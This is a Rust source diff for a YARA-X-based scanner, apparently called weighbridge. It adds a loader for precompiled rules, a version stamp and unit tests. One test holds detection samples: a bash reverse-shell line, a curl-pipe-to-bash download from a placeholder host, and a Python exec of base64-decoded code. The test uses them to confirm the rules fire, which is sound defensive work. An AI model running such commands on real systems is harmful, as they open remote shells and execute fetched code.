@@ -10,6 +10,9 @@ use yara_x::{Compiler, MetaValue, Rules, SourceCode};
 /// Matches reported per rule and window.
 const OFFSETS_PER_RULE_MAX: usize = 1;
 
+/// The engine's version, as pinned in the workspace.
+const YARA_X: &str = "1.22.1";
+
 /// A YARA rule that does not compile.
 #[derive(Debug, thiserror::Error)]
 #[error("cannot compile YARA rules `{origin}`:\n{message}")]
@@ -22,11 +25,36 @@ pub struct PatternError {
 pub struct Patterns(Rules);
 
 impl Patterns {
-    /// Compiles our rules and `extra` (origin for messages, text).
+    /// Our rules and `extra` (origin for messages, text). Without `extra`, our
+    /// rules as they were compiled for this release, which starts faster.
     ///
     /// # Errors
     /// [`PatternError`] with the compiler's report.
-    pub fn compile(extra: &[(String, String)]) -> Result<Self, PatternError> {
+    pub fn load(extra: &[(String, String)]) -> Result<Self, PatternError> {
+        if extra.is_empty()
+            && let Some(compiled) = weighbridge_rules::COMPILED_YARA.strip_prefix(stamp().as_bytes())
+            && let Ok(rules) = Rules::deserialize(compiled)
+        {
+            return Ok(Self(rules));
+        }
+        Self::compile(extra)
+    }
+
+    /// Our rules in the form of [`weighbridge_rules::COMPILED_YARA`].
+    ///
+    /// # Errors
+    /// [`PatternError`] if they do not compile.
+    pub fn compiled_for_release() -> Result<Vec<u8>, PatternError> {
+        let rules = Self::compile(&[])?;
+        let bytes = rules
+            .0
+            .serialize()
+            .map_err(|e| PatternError { origin: "rules/yara".to_owned(), message: e.to_string() })?;
+        Ok([stamp().as_bytes(), &bytes].concat())
+    }
+
+    /// Compiles our rules and `extra`.
+    fn compile(extra: &[(String, String)]) -> Result<Self, PatternError> {
         let mut compiler = Compiler::new();
         let own = weighbridge_rules::YARA.iter().map(|(origin, text)| (*origin, *text));
         for (origin, text) in own.chain(extra.iter().map(|(o, t)| (o.as_str(), t.as_str()))) {
@@ -60,6 +88,18 @@ impl Patterns {
             }
         })
     }
+}
+
+/// What compiled rules were made from and by: they fit nothing else.
+fn stamp() -> String {
+    use sha2::Digest;
+    let mut hasher = sha2::Sha256::new();
+    for (origin, text) in weighbridge_rules::YARA {
+        hasher.update(origin);
+        hasher.update(text);
+    }
+    let digest = weighbridge_types::Sha256::new(hasher.finalize().into());
+    format!("weighbridge yara-x {YARA_X} {digest}\n")
 }
 
 /// What `weighbridge rules explain` shows of a YARA rule.
@@ -146,4 +186,50 @@ fn text<'a>(mut meta: impl Iterator<Item = (&'a str, MetaValue<'a>)>, wanted: &s
         MetaValue::String(s) if key == wanted => Some(s.to_owned()),
         _ => None,
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_compiled_rules_are_those_of_the_sources() {
+        assert!(
+            weighbridge_rules::COMPILED_YARA.starts_with(stamp().as_bytes()),
+            "rules/yara/compiled.bin is out of date; run `cargo xtask rules`"
+        );
+        let compiled = Patterns::load(&[]).unwrap();
+        let ids = |p: &Patterns| p.pages().map(|p| p.id).collect::<Vec<_>>();
+        assert_eq!(ids(&compiled), ids(&Patterns::compile(&[]).unwrap()));
+    }
+
+    #[test]
+    fn the_pinned_version_is_the_one_in_the_stamp() {
+        let manifest = include_str!("../../Cargo.toml");
+        assert!(manifest.contains(&format!("yara-x = {{ version = \"={YARA_X}\"")));
+    }
+
+    #[test]
+    fn every_rule_says_what_a_page_needs() {
+        for page in Patterns::compile(&[]).unwrap().pages() {
+            assert!(
+                !page.why.is_empty() && !page.false_positives.is_empty() && !page.references.is_empty(),
+                "{}",
+                page.id
+            );
+        }
+    }
+
+    #[test]
+    fn known_commands_are_found_and_plain_text_is_not() {
+        let patterns = Patterns::load(&[]).unwrap();
+        let scanner = patterns.scanner();
+        let rules = |text: &str| -> Vec<String> {
+            scanner.scan(text.as_bytes(), 0, 0).into_iter().map(|m| m.finding.rule.into_owned()).collect()
+        };
+        assert_eq!(rules("bash -i >& /dev/tcp/192.0.2.1/4242 0>&1"), ["yara-reverse-shell-command"]);
+        assert_eq!(rules("curl -s https://example.invalid/x.sh | bash"), ["yara-fetch-and-run-command"]);
+        assert_eq!(rules("exec(__import__('base64').b64decode('eA=='))"), ["yara-python-decode-and-run"]);
+        assert_eq!(rules("the bash shell and the curl program are tools; exec() runs code"), [""; 0]);
+    }
 }
